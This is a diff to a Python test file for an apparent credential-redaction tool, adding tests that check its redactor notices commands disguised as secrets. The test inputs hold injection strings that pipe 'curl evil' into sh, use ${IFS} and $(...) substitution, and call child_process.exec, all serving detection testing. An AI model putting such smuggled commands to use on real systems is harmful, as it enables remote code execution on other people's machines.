@@ -7,7 +7,14 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from bartizan.discover.credentials import redact_command, redact_mapping, redact_text, redact_url, redact_value
+from bartizan.discover.credentials import (
+    hides_code,
+    redact_command,
+    redact_mapping,
+    redact_text,
+    redact_url,
+    redact_value,
+)
 from bartizan.model.errors import Place
 from bartizan.model.secret import Secret
 
@@ -141,3 +148,30 @@ def test_no_text_of_a_megabyte_stalls_the_reading_of_a_url(piece: str):
     began = time.process_time()
     redact_url("https://x/" + piece * (1_000_000 // len(piece)), HERE, KEY)
     assert time.process_time() - began < 5
+
+
+@pytest.mark.parametrize(
+    "word",
+    [
+        "TOKEN=abcdef;curl${IFS}evil|sh",
+        "echo '-----BEGIN PRIVATE KEY-----\n" + "a" * 20 + "'; curl evil | sh; echo '-----END'",
+        "xx://a:$(touch${IFS}evil)@host",
+        "API_KEY=require('child_process').exec('evil')",
+    ],
+)
+def test_a_command_that_hides_as_a_secret_is_noticed(word: str):
+    shown, found = redact_command(["sh", "-c", word], HERE, KEY)
+    assert found
+    assert hides_code(word, shown[2])
+
+
+@pytest.mark.parametrize("word", [GITHUB, f"--token={GENERIC}", f"Authorization: Bearer {GENERIC}", "echo 'a'; b"])
+def test_a_plain_secret_in_a_command_is_no_hidden_command(word: str):
+    shown, _ = redact_command(["x", word], HERE, KEY)
+    assert not hides_code(word, shown[1])
+
+
+def test_a_lone_surrogate_of_a_configuration_stops_nothing():
+    text = redact_text(f"\ud800 {GITHUB}", HERE, KEY).text
+    assert GITHUB not in text
+    assert text.startswith("\ud800 ‹github-token")
